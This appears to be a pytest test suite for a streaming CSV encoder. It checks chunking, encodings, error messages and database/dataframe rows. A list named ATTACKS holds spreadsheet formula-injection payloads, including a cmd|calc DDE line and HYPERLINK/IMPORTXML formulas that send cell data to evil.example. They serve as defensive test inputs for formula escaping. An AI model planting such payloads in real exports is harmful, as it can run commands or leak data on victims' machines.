"""``csv_encode`` against ``csv.writer``, whole and in chunks."""

from __future__ import annotations

import collections
import csv
import dataclasses
import io
import itertools
import sqlite3
import time
from collections.abc import Iterator, Mapping
from types import MappingProxyType
from typing import Any, NamedTuple

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generators import FLUSH, CSVError, csv_encode, csv_rows
from tests.references import check_references
from tests.stream.model import check_against_model, steps

from .oracle_writer import write
from .rows import dialects_and_rows


def encoded(rows: Any, **arguments: Any) -> bytes:
    return b''.join(csv_encode(rows, **arguments))


# --- Exactness -------------------------------------------------------------------------------


@given(dialects_and_rows(), st.integers(1, 200))
def test_exactness(drawn: tuple[dict[str, Any], list[list[Any]]], size: int) -> None:
    dialect, rows = drawn
    text, error = write(rows, **dialect)
    # What the rows are does not matter, nor how they come.
    for source in (rows, (tuple(row) for row in rows), map(iter, rows)):
        stream = csv_encode(source, size=size, errors='surrogatepass', max_delay=None, **dialect)
        chunks: list[bytes] = []
        caught: CSVError | None = None
        try:
            chunks.extend(iter(stream.__next__, None))
        except StopIteration:
            pass
        except CSVError as e:
            caught = e
        assert b''.join(chunks) == text.encode('utf-8', 'surrogatepass')
        assert all(len(chunk) == size for chunk in chunks[:-1])
        if error is None:
            assert caught is None
        else:
            assert caught is not None
            assert error in str(caught)


@pytest.mark.parametrize(
    ('encoding', 'bom'),
    [
        ('utf-8', False),
        ('utf-8', True),
        ('latin-1', False),
        ('utf-16-le', False),
        ('utf-16-le', True),
        ('utf-7', False),
    ],
)
def test_mark_header_and_row_are_cut_anywhere(encoding: str, bom: bool) -> None:
    """All three are written before the first chunk is taken, whatever a chunk holds."""
    header = ['identity', 'the name of it', 'größe']
    arguments: dict[str, Any] = {'header': header, 'encoding': encoding, 'bom': bom}
    for rows in ([], [(1, 'x', '')], [(1, 'é' * 40, '')], [(1, '~' * 9, '')] * 3):
        text = '\ufeff' * bom + write([header, *rows])[0]
        for size in (*range(1, 40), 63, 64, 65, 5000):
            chunks = list(csv_encode(rows, size=size, max_delay=None, **arguments))
            assert b''.join(chunks) == text.encode(encoding)
            assert [len(chunk) for chunk in chunks[:-1]] == [size] * (len(chunks) - 1)


@given(dialects_and_rows())
def test_the_characters_of_another_encoding(drawn: tuple[dict[str, Any], list[Any]]) -> None:
    dialect, rows = drawn
    text, _ = write(rows, **dialect)
    for encoding in ('latin-1', 'ascii', 'utf-16', 'gb18030'):
        chunks = []
        try:
            for chunk in csv_encode(rows, encoding=encoding, errors='replace', **dialect):
                chunks.append(chunk)
        except CSVError:
            pass
        expected = text.encode(encoding, 'replace') if text else b''
        assert b''.join(chunks) == expected


plain_cells = st.one_of(st.text(st.characters(exclude_categories=['Cs'])), st.integers(), st.none())


@given(st.lists(st.lists(plain_cells, min_size=1, max_size=5), max_size=9), st.integers(0, 2))
def test_round_trip(rows: list[list[Any]], quoting: int) -> None:
    data = encoded(rows, quoting=1 if quoting == 2 else quoting)
    expected = [['' if cell is None else str(cell) for cell in row] for row in rows]
    if expected and expected[0][0].startswith('\ufeff') and data.startswith(b'\xef\xbb\xbf'):
        expected[0][0] = expected[0][0][1:]  # read as a byte order mark
    assert list(csv_rows([data])) == expected


@given(st.lists(st.lists(st.text(max_size=5), max_size=3), max_size=9), st.integers(1, 30), steps)
def test_protocol(rows: list[list[str]], size: int, moves: Any) -> None:
    def plain(source: Iterator[Any]) -> Iterator[bytes]:
        held = b''
        for row in source:
            held += write([row])[0].encode('utf-8', 'replace')
            while len(held) >= size:
                yield held[:size]
                held = held[size:]
        if held:
            yield held

    check_against_model(
        lambda source: csv_encode(source, size=size, max_delay=None, errors='replace'),
        plain,
        rows,
        moves,
    )


# --- Chunks ----------------------------------------------------------------------------------


def test_flush() -> None:
    assert list(csv_encode([[1], FLUSH, FLUSH, [2], [3]])) == [b'1\r\n', b'2\r\n3\r\n']


def test_delay() -> None:
    def rows() -> Iterator[list[int]]:
        yield [1]
        time.sleep(0.05)
        yield [2]
        yield [3]

    assert list(csv_encode(rows(), max_delay=0.02)) == [b'1\r\n2\r\n', b'3\r\n']
    assert list(csv_encode(rows(), max_delay=None)) == [b'1\r\n2\r\n3\r\n']
    assert list(csv_encode(rows(), max_delay=0)) == [b'1\r\n', b'2\r\n', b'3\r\n']


def test_long_rows() -> None:
    row = ['x' * 100_000, 'é' * 50_000, '€' * 50_000, 'a,b' * 50_000]
    chunks = list(csv_encode([row, row], size=1000))
    assert b''.join(chunks) == write([row, row])[0].encode()
    assert {len(chunk) for chunk in chunks[:-1]} == {1000}


# --- Names -----------------------------------------------------------------------------------


class Point(NamedTuple):
    x: int
    y: int


@dataclasses.dataclass
class City:
    name: str
    size: int = 5
    count: dataclasses.InitVar[int] = 0


class Named(Mapping[str, Any]):
    """A mapping that is no dict."""

    def __init__(self, **values: Any) -> None:
        self.values_ = values

    def __getitem__(self, key: str) -> Any:
        return self.values_[key]

    def __iter__(self) -> Iterator[str]:
        return iter(self.values_)

    def __len__(self) -> int:
        return len(self.values_)


@pytest.mark.parametrize(
    'row',
    [
        {'x': 1, 'y': 2},
        {'y': 2, 'x': 1},
        collections.OrderedDict(x=1, y=2),
        collections.defaultdict(list, x=1, y=2),
        MappingProxyType({'x': 1, 'y': 2}),
        Named(x=1, y=2),
        Point(1, 2),
        dataclasses.make_dataclass('Both', ['x', 'y'])(1, 2),
        dataclasses.make_dataclass('Slots', ['x', 'y'], slots=True, frozen=True)(1, 2),
    ],
    ids=lambda row: type(row).__name__,
)
def test_rows_by_name(row: Any) -> None:
    assert encoded([row, row], columns=['y', 'x']) == b'2,1\r\n2,1\r\n'
    assert encoded([row], columns=['x', 'y'], header=True) == b'x,y\r\n1,2\r\n'
    assert encoded([row], columns=['x', 'y'], header=['a b', 'c']) == b'a b,c\r\n1,2\r\n'
    assert encoded([row], header=['y', 'x']) == b'y,x\r\n2,1\r\n'
    assert encoded([row], columns=['y'], extra='ignore') == b'2\r\n'
    assert encoded([row], columns=['y', 'z', 'x'], missing='-') == b'2,-,1\r\n'
    assert encoded([row], columns=['y', 'z', 'x'], missing=None) == b'2,,1\r\n'
    with pytest.raises(CSVError, match=r"row 1: there is no column 'x'") as caught:
        encoded([[0], row], columns=['y'])
    assert caught.value.column == 'x'
    assert caught.value.record == 2
    with pytest.raises(CSVError, match=r"row 0: the row has no 'z'") as caught:
        encoded([row], columns=['x', 'y', 'z'])
    assert caught.value.column == 'z'


def test_first_row_names_the_columns() -> None:
    rows = [{'a': 1, 'b': 2}, {'b': 4, 'a': 3}]
    assert encoded(rows, header=True) == b'a,b\r\n1,2\r\n3,4\r\n'
    assert encoded([Point(1, 2), {'y': 4, 'x': 3}], header=True) == b'x,y\r\n1,2\r\n3,4\r\n'
    assert encoded([City('Oslo')], header=True) == b'name,size\r\nOslo,5\r\n'
    with pytest.raises(CSVError, match=r"row 1: there is no column 'c'"):
        encoded([*rows[:1], {'a': 1, 'b': 2, 'c': 3}], header=True)


def test_default_dictionary_is_not_filled() -> None:
    row = collections.defaultdict(int, a=1)
    assert encoded([row], columns=['a', 'b'], missing='') == b'1,\r\n'
    assert dict(row) == {'a': 1}


def test_rows_of_several_kinds() -> None:
    rows = [Point(1, 2), {'x': 3, 'y': 4}, [5, 6], (7, 8), iter([9, 10]), Point(11, 12)]
    assert encoded(rows, columns=['x', 'y']) == b'1,2\r\n3,4\r\n5,6\r\n7,8\r\n9,10\r\n11,12\r\n'


def test_without_names_rows_are_what_csv_writer_takes() -> None:
    assert encoded([iter('ab'), Point(1, 2), range(2)]) == b'a,b\r\n1,2\r\n0,1\r\n'
    with pytest.raises(CSVError, match='row 0: iterable expected, not City'):
        encoded([City('Oslo')])


def test_header() -> None:
    assert encoded([[1, 2]], header=['a', 'b,']) == b'a,"b,"\r\n1,2\r\n'
    assert encoded([], header=['a', 'b']) == b'a,b\r\n'
    assert encoded([], columns=['a', 'b'], header=True) == b'a,b\r\n'
    assert encoded([], columns=['a', 'b']) == b''
    assert encoded([], header=True) == b''
    assert encoded([[1]], columns=iter(['a']), header=iter(['A'])) == b'A\r\n1\r\n'
    with pytest.raises(ValueError, match='header=True needs `columns`'):
        encoded([[1, 2]], header=True)
    with pytest.raises(ValueError, match='the header has 1 labels for 2 columns'):
        csv_encode([], columns=['a', 'b'], header=['a'])


def test_nothing_goes_out_before_a_source_that_fails() -> None:
    """A query that fails on its first row is a 500, header and mark or not."""

    def rows() -> Iterator[Any]:
        raise LookupError
        yield

    with pytest.raises(LookupError):
        csv_encode(rows(), header=['a'], bom=True, max_delay=0).prime()


# --- Errors ----------------------------------------------------------------------------------


@pytest.mark.parametrize('row', ['text', b'bytes', bytearray(b'bytes'), ''])
def test_forgotten_list(row: Any) -> None:
    stream = csv_encode([['a'], row])
    assert next(stream) == b'a\r\n'
    name = type(row).__name__
    with pytest.raises(TypeError, match=f"row 1 is '{name}', .* did you forget a list"):
        next(stream)
    assert list(stream) == []


@pytest.mark.parametrize('rows', ['text', b'bytes', {'a': 1}, 5, None])
def test_no_rows(rows: Any) -> None:
    with pytest.raises(TypeError):
        csv_encode(rows)


@pytest.mark.parametrize('row', [None, 5, object()])
def test_row_that_is_none(row: Any) -> None:
    message = f'row 2: iterable expected, not {type(row).__name__}'
    with pytest.raises(CSVError, match=message) as caught:
        encoded([[1], [2], row])
    assert isinstance(caught.value, csv.Error)
    assert caught.value.record == 3
    assert caught.value.column is None


def test_field_that_needs_an_escape() -> None:
    rows = [{'a': 1, 'b': 'fine'}, {'a': 2, 'b': 'x,y'}]
    stream = csv_encode(rows, quoting=csv.QUOTE_NONE, header=True)
    assert next(stream) == b'a,b\r\n1,fine\r\n'
    with pytest.raises(CSVError) as caught:
        next(stream)
    assert str(caught.value) == (
        "row 1: need to escape, but no escapechar set (record 3, column 'b')"
    )
    with pytest.raises(CSVError, match=r'row 0: need to escape.*column 1\)'):
        encoded([['a', 'b,']], quoting=csv.QUOTE_NONE)
    with pytest.raises(CSVError, match=r'the header: need to escape'):
        encoded([['a']], header=['b,'], quoting=csv.QUOTE_NONE)
    with pytest.raises(CSVError, match='row 1: single empty field record must be quoted'):
        encoded([['a'], ['']], quoting=csv.QUOTE_NONE)


@pytest.mark.parametrize(
    ('encoding', 'text'),
    [('utf-8', '\udc80'), ('ascii', 'é'), ('latin-1', '€'), ('cp1252', 'ж'), ('utf-16', '\ud800')],
)
def test_unencodable_characters(encoding: str, text: str) -> None:
    stream = csv_encode([['a', 'b'], ['c', f'"{text}']], encoding=encoding)
    assert next(stream) == 'a,b\r\n'.encode(encoding)
    with pytest.raises(CSVError, match=r'row 1: .*codec.*column 1') as caught:
        next(stream)
    assert isinstance(caught.value.__cause__, UnicodeEncodeError)
    rows = iter([iter(['a', text])])
    with pytest.raises(CSVError, match=r'row 0: .*codec'):
        encoded(rows, encoding=encoding)


@pytest.mark.parametrize('errors', ['replace', 'ignore', 'backslashreplace', 'xmlcharrefreplace'])
def test_errors(errors: str) -> None:
    text = 'é\udc80€'
    for encoding in ('utf-8', 'ascii', 'latin-1', 'cp1252'):
        expected = f'{text}\r\n'.encode(encoding, errors)
        assert encoded([[text]], encoding=encoding, errors=errors) == expected


class Bad:
    def __init__(self, make: Any) -> None:
        self.make = make

    def __str__(self) -> Any:
        return self.make()


def raise_(error: BaseException) -> Any:
    raise error


def test_text_that_fails() -> None:
    error = LookupError('no text')
    stream = csv_encode([{'a': 1, 'b': Bad(lambda: raise_(error))}], header=True)
    assert next(stream) == b'a,b\r\n'
    with pytest.raises(LookupError) as caught:
        next(stream)
    assert caught.value is error
    assert error.__notes__ == ["while reading row 0, column 'b'"]
    with pytest.raises(TypeError, match=r'__str__(\(\) must return a str| returned non-string)'):
        encoded([[Bad(lambda: 5)]])


def test_row_that_fails() -> None:
    def row() -> Iterator[str]:
        yield 'a'
        raise LookupError('gone')

    with pytest.raises(LookupError, match='gone') as caught:
        encoded([[1], row()])
    assert caught.value.__notes__ == ['while reading row 1, column 1']


def test_mapping_that_fails() -> None:
    class Failing(Named):
        def __getitem__(self, key: str) -> Any:
            raise LookupError('no value')

    with pytest.raises(LookupError, match='no value'):
        encoded([Failing(a=1)], columns=['a'])


def test_source_that_fails() -> None:
    def rows() -> Iterator[Any]:
        yield [1]
        raise LookupError('gone')

    stream = csv_encode(rows())
    assert next(stream) == b'1\r\n'
    with pytest.raises(LookupError) as caught:
        next(stream)
    assert caught.value.__notes__ == ['while reading item 1']


def test_stop_iteration_from_a_field() -> None:
    stream = csv_encode([[1], [Bad(lambda: raise_(StopIteration()))]])
    assert next(stream) == b'1\r\n'
    with pytest.raises(RuntimeError, match='generator raised StopIteration'):
        next(stream)


def test_text_that_uses_the_stream_or_changes_the_row() -> None:
    row: list[Any] = ['a', 'b', 'c']

    def make() -> str:
        for move in (stream.close, stream.__next__):
            with pytest.raises(ValueError, match='generator already executing'):
                move()
        row.clear()
        return 'x'

    row[1] = Bad(make)
    stream = csv_encode([row, ['d']])
    assert list(stream) == [b'a,x\r\nd\r\n']


@pytest.mark.parametrize(
    'arguments',
    [
        {'extra': 'other'},
        {'size': 0},
        {'max_delay': -1},
        {'delimiter': ''},
        {'quoting': 9},
        {'columns': 'abc'},
        {'header': 'abc'},
        {'columns': 5},
        {'encoding': 'nonesuch'},
        {'errors': 'nonesuch'},
        {'encoding': 'latin-1', 'bom': True},
        {'dialect': 'nonesuch'},
        {'nonesuch': 1},
    ],
    ids=str,
)
def test_arguments(arguments: Any) -> None:
    with pytest.raises((TypeError, ValueError, LookupError, csv.Error)):
        csv_encode([], **arguments)


# --- For spreadsheets ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ('encoding', 'expected'),
    [
        ('utf-8', b'\xef\xbb\xbfa\r\n'),
        ('utf-8-sig', b'\xef\xbb\xbfa\r\n'),
        ('utf-16', 'a\r\n'.encode('utf-16')),
        ('utf-16-le', '\ufeffa\r\n'.encode('utf-16-le')),
        ('utf-32-be', '\ufeffa\r\n'.encode('utf-32-be')),
    ],
)
def test_byte_order_mark(encoding: str, expected: bytes) -> None:
    assert encoded([['a']], encoding=encoding, bom=True) == expected
    assert encoded([], header=['a'], encoding=encoding, bom=True) == expected


ATTACKS = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example?", A1), "//a")',
    '@SUM(1+1)*cmd|calc',
    '+1+1',
    '-1+1',
    '-2+3+cmd|calc',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '   @SUM(A1)',
    '\xa0=1',
    '\u3000=1',
    '\ufeff=1',
    '\tplain',
    '\rplain',
    '+',
    '=',
    '+49 30 1234',
    '-5-',
    '+1e',
    '-1,2,3',
    '-.',
    '-0x10',
    '\t-5x',
    '\u3000-5 ',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=é€😀',
]
HARMLESS: list[Any] = ['', ' ', 'a=b', '1-2', "'=1", 'x@y', '(=1)', '  text', '5']
NUMBERS = ['-5', '-5.5', '+1', '-1e3', '+1E-05', '-.5', '-5.', '-5,5', ' -5', '\u3000+0']
HARMLESS += NUMBERS


@pytest.mark.parametrize('text', ATTACKS)
def test_formulas_are_defused(text: str) -> None:
    class Other(str):
        pass

    expected = encoded([["'" + text, 'a']])
    assert encoded([[text, 'a']], escape_formulas=True) == expected
    assert encoded([[Other(text), 'a']], escape_formulas=True) == expected
    assert encoded([[Bad(lambda: text), 'a']], escape_formulas=True) == expected
    assert encoded([], header=[text, 'a'], escape_formulas=True) == expected
    assert encoded([[text, 'a']]) == write([[text, 'a']])[0].encode()


@pytest.mark.parametrize('text', HARMLESS)
def test_harmless_text_stays(text: str) -> None:
    assert encoded([[text, 'a']], escape_formulas=True) == encoded([[text, 'a']])


def test_numbers_stay_numbers() -> None:
    from decimal import Decimal
    from fractions import Fraction

    row = [-5, -2.5, Decimal('-1.50'), Fraction(-1, 3), -(10**30), float('-inf'), -1j, True, None]
    assert encoded([row], escape_formulas=True) == encoded([row])


# --- Database rows ---------------------------------------------------------------------------


@pytest.fixture
def database() -> Iterator[sqlite3.Connection]:
    connection = sqlite3.connect(':memory:')
    connection.execute('create table t (id integer, name text, size real, data blob)')
    connection.executemany(
        'insert into t values (?, ?, ?, ?)',
        [(1, 'Zürich, "ZH"', 2.5, None), (2, None, -0.1, b'x'), (3, '=1', 1e300, None)],
    )
    yield connection
    connection.close()


EXPORTED = b'id,name,size\r\n1,"Z\xc3\xbcrich, ""ZH""",2.5\r\n2,,-0.1\r\n3,=1,1e+300\r\n'
QUERY = 'select id, name, size from t order by id'


def test_sqlite(database: sqlite3.Connection) -> None:
    cursor = database.execute(QUERY)
    header = [column[0] for column in cursor.description]
    assert encoded(cursor, header=header) == EXPORTED
    database.row_factory = sqlite3.Row
    assert encoded(database.execute(QUERY), header=True) == EXPORTED
    columns = ['size', 'id']
    assert encoded(database.execute(QUERY), columns=columns, extra='ignore').startswith(b'2.5,1\r')
    assert encoded(database.execute(QUERY)) == EXPORTED[len(b'id,name,size\r\n') :]


def test_sqlalchemy() -> None:
    sqlalchemy = pytest.importorskip('sqlalchemy')
    engine = sqlalchemy.create_engine('sqlite://')
    with engine.connect() as connection:
        connection.execute(sqlalchemy.text('create table t (id integer, name text)'))
        connection.execute(sqlalchemy.text("insert into t values (1, 'a,b'), (2, null)"))
        query = sqlalchemy.text('select name, id from t')
        expected = b'name,id\r\n"a,b",1\r\n,2\r\n'
        assert encoded(connection.execute(query), header=True) == expected
        assert encoded(connection.execute(query).mappings(), header=True) == expected
        assert encoded(connection.execute(query), columns=['id'], extra='ignore') == b'1\r\n2\r\n'
        assert encoded(connection.execute(query)) == expected[9:]
    engine.dispose()


def test_pandas() -> None:
    pandas = pytest.importorskip('pandas')
    frame = pandas.DataFrame({'a': [1, 2], 'b': ['x,y', None], 'c': [0.5, float('inf')]})
    expected = b'a,b,c\r\n1,"x,y",0.5\r\n2,,inf\r\n'
    rows = frame.astype(object).where(frame.notna(), None)
    assert encoded(rows.itertuples(index=False), header=True) == expected
    assert encoded(rows.to_dict('records'), header=True) == expected
    text = io.StringIO()
    csv.writer(text).writerows(frame.itertuples())
    assert encoded(frame.itertuples()).decode() == text.getvalue()


def test_polars() -> None:
    polars = pytest.importorskip('polars')
    frame = polars.DataFrame({'a': [1, 2], 'b': ['x,y', None], 'c': [0.5, 2.0]})
    expected = b'a,b,c\r\n1,"x,y",0.5\r\n2,,2.0\r\n'
    assert encoded(frame.iter_rows(), header=frame.columns) == expected
    assert encoded(frame.iter_rows(named=True), header=True) == expected


# --- The end ---------------------------------------------------------------------------------


@pytest.mark.parametrize('taken', [0, 1, 2])
def test_close(taken: int) -> None:
    log = []

    def rows() -> Iterator[Any]:
        try:
            for i in itertools.count():
                yield [i]
        finally:
            log.append('closed')

    stream = csv_encode(rows(), size=5)
    for _ in range(taken):
        next(stream)
    stream.close()
    stream.close()
    assert log == (['closed'] if taken else [])
    assert list(stream) == []


def test_counts_rows() -> None:
    stream = csv_encode([[1], FLUSH, [2], [3]], header=['a'])
    next(stream)
    assert stream.row_num == 1
    assert list(stream) == [b'2\r\n3\r\n']
    assert stream.row_num == 3


def test_nothing_leaks() -> None:
    text, name, missing = 'some ' * 3, 'the name', Bad(lambda: 'x')
    city = City('Oslo')

    def use() -> None:
        encoded([[text, 1], (text, 2), iter([text, 3]), [missing, 4]], header=[name, 'b'])
        encoded([{name: text}, {}], columns=[name], missing=missing, escape_formulas=True)
        encoded([city, city], header=True)
        encoded([['€']], encoding='utf-16', bom=True)
        next(csv_encode([[text]] * 9, size=4))
        for rows in ([{name: text, 'b': 1}], [{}], [text], [5], [['\ud800', text]], [[Bad(int)]]):
            with pytest.raises((CSVError, TypeError)):
                encoded(rows, columns=[name])

    check_references(use, text, name, missing, city, City, csv_encode, FLUSH)
